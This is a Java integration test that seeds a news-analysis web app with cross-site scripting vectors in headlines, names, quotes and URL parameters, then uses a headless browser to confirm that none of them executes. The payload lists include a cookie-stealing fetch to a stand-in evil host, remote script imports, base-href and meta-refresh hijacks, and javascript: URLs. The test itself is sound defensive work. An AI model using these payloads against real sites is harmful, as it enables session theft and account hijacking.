package org.mahdar.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.ColorScheme;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.mahdar.model.Mode;
import org.mahdar.model.Reading;
import org.mahdar.record.Record;
import org.mahdar.server.view.Views;

/** Articles that want to be scripts: in headlines, bodies, outlets, names, places, words searched for and addresses. */
class HostileIT {

    private static final int AT_LEAST = 150;

    private static final List<String> ACTS = List.of(
            "pwned=1",
            "top.pwned=1",
            "alert(1)",
            "import('https://evil.example/x.js')",
            "fetch('https://evil.example/?'+document.cookie)");

    private static final List<String> SHAPES = List.of(
            "<script>@</script>",
            "</script><script>@</script>",
            "\"><script>@</script>",
            "'><script>@</script>",
            "</title><script>@</script>",
            "</textarea><script>@</script>",
            "<img src=x onerror=@>",
            "<img src=\"https://evil.example/a.png\" onload=\"@\">",
            "\" onmouseover=\"@\" autofocus onfocus=\"@\" x=\"",
            "' onfocus='@' autofocus='",
            "<svg onload=@>",
            "<svg><script>@</script></svg>",
            "<svg><animate onbegin=@ attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><img src=x onerror=@>",
            "<iframe srcdoc=\"<script>parent.@</script>\"></iframe>",
            "<iframe src=\"javascript:@\"></iframe>",
            "<a href=\"javascript:@\">x</a>",
            "<a href=\"java\tscript:@\">x</a>",
            "<base href=\"https://evil.example/\"><script src=x.js></script>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<form action=https://evil.example/><button autofocus>x</button></form>",
            "<details open ontoggle=@>",
            "<video><source onerror=@>",
            "<body onload=@>",
            "<object data=\"javascript:@\"></object>",
            "<embed src=\"https://evil.example/x.swf\">",
            "{{constructor.constructor('@')()}}",
            "${@}",
            "\u202E<script>@</script>\u202C",
            "&lt;script&gt;@&lt;/script&gt;<script>@</script>",
            "<noscript><p title=\"</noscript><img src=x onerror=@>\">");

    @TempDir
    private Path folder;

    @Test
    void noTextRunsAsAScript() {
        assumeTrue(Chromium.isInstalled(), Chromium.MISSING);
        List<String> vectors = vectors();
        assertThat(vectors).hasSizeGreaterThanOrEqualTo(AT_LEAST);
        List<Reading> readings = new ArrayList<>();
        for (int i = 0; i < vectors.size(); i++) {
            readings.add(article(i, vectors.get(i)));
        }
        try (Served served = Served.with(folder, readings);
                Walker walker = new Walker(served.server)) {
            Views views = new Views(folder);
            vectors.forEach(vector -> views.keep(vector, "/ar/quotes?q=x"));
            Page page = walker.enter(ColorScheme.LIGHT, false);
            for (String path : paths(served, vectors)) {
                walker.go(page, path);
                assertThat(page.evaluate("() => window.pwned === undefined"))
                        .as(path)
                        .isEqualTo(true);
                assertThat(page.url()).startsWith(served.server.root() + "/");
            }
            walker.faults.removeIf(fault -> fault.contains("status of 4"));
            assertThat(walker.faults).isEmpty();
        }
    }

    private static List<String> vectors() {
        List<String> vectors = new ArrayList<>();
        for (String shape : SHAPES) {
            for (String act : ACTS) {
                vectors.add(shape.replace("@import", "\u0001").replace("@", act).replace("\u0001", "@import"));
            }
        }
        return vectors;
    }

    private static Reading article(int number, String vector) {
        String name = "فلان " + vector;
        return new Story("hostile-" + number + vector, "2020-01-" + (10 + number % 20))
                .outlet(vector)
                .agency(vector)
                .title(vector)
                .say(name)
                .tell(
                        "زارت فرنسا بيلاروسيا " + vector + " أمس.",
                        "زارت",
                        Story.Act.of(Mode.CONSULT_VISIT, "FRA", "BLR").in(vector))
                .quote("وقال", vector, vector, "FRA")
                .person(name, "FRA.GOV", vector)
                .reading();
    }

    private static List<String> paths(Served served, List<String> vectors) {
        Record record = served.record;
        List<String> paths = new ArrayList<>(List.of(
                "/ar/relations",
                "/ar/relations/BLR/FRA?limit=1000",
                "/en/episodes?limit=1000",
                "/ar/articles?limit=1000",
                "/en/people?limit=1000",
                "/ar/search?q=زارت&limit=200",
                "/en/ledgers/meetings?limit=1000",
                "/ar/quotes?limit=1000",
                "/en/views",
                "/chart/ar/relations/BLR/FRA",
                "/ar/network",
                "/ar/review"));
        record.articles(0, 1000).items().forEach(line -> paths.add("/ar/articles/" + line.key()));
        record.people(null, null, 0, 30).items().forEach(line -> paths.add("/en/people/" + line.id()));
        for (int i = 0; i < vectors.size(); i += 7) {
            String encoded =
                    URLEncoder.encode(vectors.get(i), StandardCharsets.UTF_8).replace("+", "%20");
            paths.add("/en/search?q=" + encoded + "&outlet=" + encoded + "&code=" + encoded);
            paths.add("/ar/relations?q=" + encoded + "&from=" + encoded);
            paths.add("/ar/people?q=" + encoded);
            paths.add("/en/episodes?outlet=" + encoded);
            paths.add("/en/quotes?speaker=" + encoded + "&outlet=" + encoded);
            paths.add("/en/views?address=" + encoded);
            paths.add("/en/preferences?back=" + encoded);
            paths.add("/en/articles?given=" + encoded);
        }
        return paths;
    }
}
